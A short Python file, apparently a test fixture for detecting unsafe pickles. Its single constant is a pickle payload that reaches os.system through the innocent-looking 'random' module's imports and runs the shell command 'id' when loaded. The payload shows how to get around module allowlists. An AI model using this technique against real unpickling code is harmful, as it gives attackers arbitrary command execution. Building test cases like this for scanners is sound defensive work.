"""A dotted name leads from an innocent module through its imports."""

PAYLOAD = b"\x80\x04\x8c\x06random\x8c\n_os.system\x93(\x8c\x02idtR."
